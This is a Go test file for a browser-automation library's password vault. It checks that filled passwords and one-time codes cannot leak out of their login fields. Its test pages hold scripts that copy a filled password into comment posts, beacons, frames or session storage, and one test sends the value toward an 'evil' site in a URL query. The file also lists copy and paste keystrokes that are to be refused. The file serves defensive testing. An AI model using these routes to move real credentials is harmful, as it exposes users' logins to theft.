package page_test

import (
	"context"
	"crypto/sha256"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
)

// reports collects what became of a fill.
type reports struct {
	mu    sync.Mutex
	codes []string
}

func (r *reports) add(_ context.Context, e *bctrl.Error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.codes = append(r.codes, e.Code)
}

func (r *reports) all() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.codes...)
}

// TestALoginIsSentAgainWithItsCode asks for a code after the password, and
// sends both.
func TestALoginIsSentAgainWithItsCode(t *testing.T) {
	for why, keep := range map[string]string{"the field stays": "", "the field is taken away": "box.remove();"} {
		ctx, p, _ := openPage(t)
		s := browsertest.NewSite(t, map[string]string{"/": `<form id=f><span id=box>` +
			`<input type=password id=p name=p aria-label=Password></span><input id=c aria-label=Code hidden>` +
			`<button>Log in</button></form><p id=out></p><script>
let kept; f.onsubmit = async e => { e.preventDefault(); kept ??= p.value;
const r = await fetch('/login', {method: 'POST', body: JSON.stringify(c.hidden ? {password: kept} : {password: ` +
			`kept, code: c.value})});
if (c.hidden) { c.hidden = false; out.textContent = 'code please'; ` + keep +
			` } else out.textContent = 'done'; }</script>`, "/login": "ok"})
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
			browsertest.Login("password", browsertest.Hunter, s.URL)))
		browsertest.ClickUntil(ctx, t, p, obs, "Log in", "code please")
		obs = browsertest.Observe(ctx, t, p)
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Code").Ref,
			browsertest.Login("totp", "048151", s.URL)))
		browsertest.ClickUntil(ctx, t, p, obs, "Log in", "done")
		got := s.RequestsTo("/login")
		require.Len(t, got, 2, why)
		for _, r := range got {
			require.True(t, browsertest.JSONString(r.Body, "password") == browsertest.Hunter, why)
		}
		require.True(t, browsertest.JSONString(got[1].Body, "code") == "048151", why)
	}
}

// TestAFailedFillLeavesNothing fills fields that make something else of what is
// typed, and lets the page send what there is.
func TestAFailedFillLeavesNothing(t *testing.T) {
	ctx, p, b := openPage(t)
	const form = `<form method=post action=/login><input name=p id=p aria-label=Field %s>` +
		`<input type=hidden name=copy id=copy><button>Send</button></form><script>%s</script>`
	const row = `<form method=post action=/login>` +
		`<input name=p class=d aria-label=Field maxlength=1><input name=p class=d maxlength=1>` +
		`<input name=p class=d maxlength=1><input name=p class=d maxlength=1>` +
		`<input name=p class=d maxlength=1><input name=p class=d maxlength=1 onkeydown="" oninput="this.value = ''">` +
		`<button>Send</button></form>`
	anew := strings.Replace(row, "this.value = ''", "", 1) + `<script>{ const state = Array(6).fill('');
		const all = () => [...document.querySelectorAll('.d')]; const follow = () => all().forEach((d, i) => {
			d.value = state[i]; d.oninput = () => { state[i] = i === 4 ? '' : d.value;
				all().forEach(d => d.replaceWith(d.cloneNode())); follow() } }); follow() }</script>`
	for _, c := range []struct {
		why, page, field, value string
		direct                  bool
	}{
		{"a sign before a code", fmt.Sprintf(form, "",
			`p.oninput = () => { if (/^\d{6}$/.test(p.value)) p.value = '#' + p.value }`), "totp", "048151", false},
		{"signs between groups, and a copy", fmt.Sprintf(form, "",
			`p.oninput = () => { p.value = p.value.replace(/^(\d{3})(\d)/, '$1#$2'); copy.value = p.value.replace('#', '') }`),
			"totp", "048151", false},
		{"a password in capitals", fmt.Sprintf(form, "type=password",
			`p.oninput = () => { p.value = p.value.toUpperCase() }`), "password", browsertest.Hunter, false},
		{"a password in capitals, itself",
			fmt.Sprintf(form, "type=password", `p.oninput = () => { p.value = p.value.toUpperCase() }`), "password",
			browsertest.Hunter, true},
		{"a username cut short", fmt.Sprintf(form, "", `p.oninput = () => { p.value = p.value.slice(0, 3) }`),
			"username", "robot@example.com", false},
		{"the last box of a row", row, "totp", "048151", false},
		{"a box of a row that is made anew without its digit", anew, "totp", "048151", false},
		{"a box of a row that is made anew, itself", anew, "totp", "048151", true},
	} {
		s := browsertest.NewSite(t, map[string]string{"/": c.page, "/login": "sent"})
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		fill := browsertest.Login(c.field, c.value, s.URL)
		fill.Direct = c.direct
		require.ErrorContains(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Field").Ref, fill), "page.not_typed", c.why)
		held := strings.Split(browsertest.InputValues(ctx, t, b), "\n")
		require.Empty(t, strings.Trim(strings.Join(held[:strings.Count(c.page, "<input")], ""), "#"), c.why)
		browsertest.ClickUntil(ctx, t, p, obs, "Send", "sent")
		for _, r := range s.RequestsTo("/login") {
			got, err := url.ParseQuery(r.Body)
			require.NoError(t, err)
			require.Empty(t, strings.Trim(strings.Join(append(got["p"], got["copy"]...), ""), "#"), c.why)
		}
	}
}

// TestAFormThatLeavesWithoutTheValueIsNoticed lets pages make something of a
// password themselves.
func TestAFormThatLeavesWithoutTheValueIsNoticed(t *testing.T) {
	const form = `<form id=f method=post action=/login><input name=u aria-label=User>` +
		`<input type=password id=p name=p aria-label=Password><input type=hidden name=h id=h><button>Log in</button>` +
		`</form><p id=out></p><script>
const hash = async text => [...new Uint8Array(await crypto.subtle.digest('SHA-256', ` +
		`new TextEncoder().encode(text)))].map(b => b.toString(16).padStart(2, '0')).join('');
const post = async (path, body) => (await fetch(path, {method: 'POST', body: JSON.stringify(body)})).ok;
`
	const script = form + "f.onsubmit = async e => { e.preventDefault(); %s; out.textContent = 'done' }</script>"
	_, p, _ := openPage(t)
	for _, c := range []struct {
		why, page string
		unsent    bool
	}{
		{"its hash as JSON", fmt.Sprintf(script, `await post('/login', {hash: await hash(p.value)})`), true},
		{"salt first, then its hash",
			fmt.Sprintf(script, `await post('/salt', {u: f.u.value}); await post('/login', {u: f.u.value, `+
				`hash: await hash('salt' + p.value)})`), true},
		{"its hash in a hidden field",
			form + `f.onsubmit = e => { e.preventDefault(); hash(p.value).then(v => { h.value = v; p.value = ''; ` +
				`f.submit() }) }</script>`, true},
		{"reversed in its own field", form + `f.onsubmit = () => { p.value = [...p.value].reverse().join('') }</script>`,
			true},
		{"itself, over a websocket", fmt.Sprintf(script,
			`const w = new WebSocket('ws://' + location.host + '/socket'); await new Promise(r => w.onopen = r); `+
				`w.send(JSON.stringify({p: p.value})); await post('/login', {at: 1})`), true},
		{"the name first, then the password",
			fmt.Sprintf(script, `await post('/check', {u: f.u.value}); await post('/login', {u: f.u.value, p: p.value})`),
			false},
		{"the password first, then something else",
			fmt.Sprintf(script, `await post('/login', {p: p.value}); await post('/visit', {at: 1})`), false},
		{"something before it is sent", form + `p.oninput = () => post('/strength', {at: 1})</script>`, false},
	} {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		s := browsertest.NewSite(t, map[string]string{"/": c.page, "/login": "<p>done</p>", "/salt": "x", "/check": "x",
			"/visit": "x", "/strength": "x"})
		s.Handlers["/socket"] = func(w http.ResponseWriter, r *http.Request) {
			if ws, err := websocket.Accept(w, r, nil); err == nil {
				_, _, _ = ws.Read(ctx) // what the page sends is not the test's
				_ = ws.CloseNow()
			}
		}
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "User").Ref,
			browsertest.Login("username", "robot", s.URL)), c.why)
		fill, told := browsertest.Login("password", browsertest.Hunter, s.URL), new(reports)
		fill.Report = told.add
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill), c.why)
		require.NotContains(t, browsertest.Settle(ctx, t, p).Outline, "vault.", c.why)
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}), c.why)
		require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) == 1 }, 10*time.Second, 10*time.Millisecond,
			c.why)
		after := browsertest.Settle(ctx, t, p)
		if !c.unsent {
			require.NotContains(t, after.Outline, "vault.", c.why)
			require.Empty(t, told.all(), c.why)
			continue
		}
		require.Contains(t, after.Outline, "note: vault.fill_not_sent: ", c.why)
		require.Contains(t, after.Outline, "fill: direct", c.why)
		require.Equal(t, []string{"vault.fill_not_sent"}, told.all(), c.why)
		require.NotContains(t, browsertest.Observe(ctx, t, p).Outline, "vault.", "%s: said once", c.why)
		browsertest.RequireUnseen(t, fmt.Sprintf("%x", sha256.Sum256([]byte(browsertest.Hunter))), s.All())
	}
}

// TestAFilledValueGoesNowhereElseOnItsOwnSite gets a placeholder into other
// places of the site in every way there is for a model, and for a page that it
// uses; then the login itself is sent.
func TestAFilledValueGoesNowhereElseOnItsOwnSite(t *testing.T) {
	const form = `<form id=f method=post action=/login target=out><input type=password id=p name=p aria-label=Password>` +
		`<input name=nick id=nick aria-label=Nick><button>Log in</button></form><iframe name=out width=9 height=9></iframe>
<button onclick="p.type = 'text'">Show</button>`
	const comment = `<textarea id=c name=comment aria-label=Comment></textarea>` +
		`<button type=button onclick="c.value = window.p.value">Move</button>`
	const jsonPost = `fetch('/comment', {method: 'POST', body: JSON.stringify({text: c.value})})`
	_, p, b := openPage(t)
	for _, c := range []struct{ why, page, move string }{
		{"a comment form", `<form method=post action=/comment target=out>` + comment + `<button>Post</button></form>`,
			"Move"},
		{"a comment in several parts",
			`<form method=post action=/comment target=out enctype=multipart/form-data>` + comment +
				`<button>Post</button></form>`, "Move"},
		{"a comment whose field is called as the password's",
			`<form method=post action=/comment target=out>` + strings.Replace(comment, "name=comment", "name=p",
				1) + `<button>Post</button></form>`, "Move"},
		{"a script", comment + `<button onclick="` + jsonPost + `">Post</button>`, "Move"},
		{"a script that empties the field first",
			comment + `<button onclick="const v = c.value; c.value = ''; fetch('/comment', {method: 'POST', ` +
				`body: JSON.stringify({text: v})})">Post</button>`, "Move"},
		{"a field of the login's own form",
			`<button onclick="nick.value = p.value">Move</button><button onclick="f.action = '/comment'; p.name = ''; ` +
				`f.requestSubmit()">Post</button>`, "Move"},
		{"beside the login in a script's request",
			`<button onclick="nick.value = p.value">Move</button><button onclick="fetch('/comment', {method: 'POST', ` +
				`body: JSON.stringify({p: p.value, nick: nick.value})})">Post</button>`, "Move"},
		{"another field's name, by a script in one go",
			comment + `<button onclick="fetch('/comment', {method: 'POST', ` +
				`body: new URLSearchParams({comment: p.value})})">Post</button>`, ""},
		{"a beacon", comment + `<button onclick="navigator.sendBeacon('/comment', ` +
			`new URLSearchParams({c: c.value}))">Post</button>`, "Move"},
		{"key by key", comment + `<button onclick="` + jsonPost + `">Post</button>`, "keys"},
		{"a frame of the same site", `<iframe srcdoc="<textarea id=c aria-label=Comment></textarea>` +
			`<button onclick='c.value = parent.p.value'>Move</button><button onclick='fetch(&quot;/comment&quot;, ` +
			`{method: &quot;POST&quot;, body: JSON.stringify({text: c.value})})'>Post</button>"></iframe>`, "Move"},
	} {
		t.Run(c.why, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			s := browsertest.NewSite(t, map[string]string{"/": form + c.page, "/login": "in", "/comment": "posted"})
			obs := browsertest.Open(ctx, t, p, s.URL+"/")
			fill, told := browsertest.Login("password", browsertest.Hunter, s.URL), new(reports)
			fill.Report = told.add
			require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill))
			require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Show").Ref, browser.Click{}))
			placeholder, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
			require.Len(t, placeholder, 20)
			switch c.move {
			case "":
			case "keys":
				require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "textbox", "Comment").Ref, browser.Click{}))
				for _, key := range placeholder {
					require.NoError(t, p.Press(ctx, string(key)))
				}
			default:
				require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", c.move).Ref, browser.Click{}))
			}
			browsertest.ClickUntil(ctx, t, p, obs, "Post", "note: blocked: a request with a login's value ")
			require.Empty(t, s.RequestsTo("/comment"))
			require.Equal(t, []string{"vault.fill_stopped"}, told.all())

			if c.why == "a field of the login's own form" {
				return // its page has broken the login
			}
			require.NoError(t, p.Type(ctx, browsertest.Find(t, obs, "textbox", "Nick").Ref, "robot"))
			require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
			require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) == 1 }, 10*time.Second, 10*time.Millisecond)
			got, err := url.ParseQuery(s.RequestsTo("/login")[0].Body)
			require.NoError(t, err)
			require.True(t, got.Get("p") == browsertest.Hunter, "the login itself goes on")
		})
	}
}

// TestNothingMovesAFilledValueOutOfItsField presses every key that could, on a
// value and on a placeholder, and types what a page has shown.
func TestNothingMovesAFilledValueOutOfItsField(t *testing.T) {
	for _, direct := range []bool{false, true} {
		ctx, p, b := openPage(t)
		evil := browsertest.NewSite(t, map[string]string{"/": `<input aria-label=Loot>`})
		s := browsertest.NewSite(t, map[string]string{"/": `<input type=password id=p aria-label=Password>` +
			`<input id=c aria-label=Comment><button onclick="p.type = 'text'">Show</button>
<button onclick="p.select(); document.execCommand('copy')">Copy</button>`})
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		require.NoError(t, p.Press(ctx, "Control+v"), "before anything was filled")
		fill := browsertest.Login("password", browsertest.Hunter, s.URL)
		fill.Direct = direct
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill))
		held, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Show").Ref, browser.Click{}))
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Copy").Ref, browser.Click{}))

		tried := func(at, into string) {
			for _, name := range []string{
				"Control+c", "Control+C", "Control+Shift+c", "Meta+c", "Control+x", "Control+v", "Control+Shift+V", "Meta+V",
				"Control+z", "Control+y",
				"Control+Insert", "Shift+Insert", "Shift+Delete", "Control+Shift+Insert", "ctrl+insert", "shift+del",
				"Alt+Backspace",
				"Control+k", "Control+t", "Control+d", "Control+Alt+v", "Alt+d", "Shift+F10", "Control+Shift+Delete",
			} {
				require.ErrorContains(t, p.Press(ctx, name), "page.key_refused", "%s in %s", name, at)
			}
			for _, name := range []string{"Control+a", "Control+End", "Shift+Home", "Control+ArrowLeft", "Shift+ArrowRight",
				"Shift+Tab", "Shift+A", "End"} {
				require.NoError(t, p.Press(ctx, name), "%s in %s", name, at)
			}
			require.False(t, strings.Contains(browsertest.InputValues(ctx, t, b), held[1:]) && into != "", at)
		}
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browser.Click{}))
		tried("the field", "")
		if !direct {
			require.ErrorContains(t, p.Type(ctx, browsertest.Find(t, obs, "textbox", "Comment").Ref, "it is "+held),
				"page.text_refused")
			require.ErrorContains(t, p.Goto(ctx, evil.URL+"/?"+held, ""), "page.text_refused")
		}
		obs = browsertest.Open(ctx, t, p, evil.URL+"/")
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "textbox", "Loot").Ref, browser.Click{}))
		tried("another site", "Loot")
		require.False(t, strings.Contains(evil.All(), held))
	}
}

// TestAPlaceholderThatAPageKeepsIsNotSent has a page put a placeholder where
// the next one finds it.
func TestAPlaceholderThatAPageKeepsIsNotSent(t *testing.T) {
	ctx, p, _ := openPage(t)
	s := browsertest.NewSite(t, map[string]string{
		"/": `<input type=password id=p aria-label=Password><button onclick="sessionStorage.kept = p.value; ` +
			`location = '/next'">Next</button>`,
		"/next": `<p>Once more</p><button onclick="fetch('/login', {method: 'POST', ` +
			`body: JSON.stringify({password: sessionStorage.kept})})">Log in</button>`,
	})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
		browsertest.Login("password", browsertest.Hunter, s.URL)))
	browsertest.ClickUntil(ctx, t, p, obs, "Next", "Once more")
	obs = browsertest.Observe(ctx, t, p)
	browsertest.ClickUntil(ctx, t, p, obs, "Log in", "note: blocked: a request with a login's value from another document")
	require.Eventually(t, func() bool { return !p.Guarded() }, 10*time.Second, 20*time.Millisecond)
	browsertest.ClickUntil(ctx, t, p, obs, "Log in", "note: blocked: a request with what stood for a login's value")
	require.Empty(t, s.RequestsTo("/login"))
}
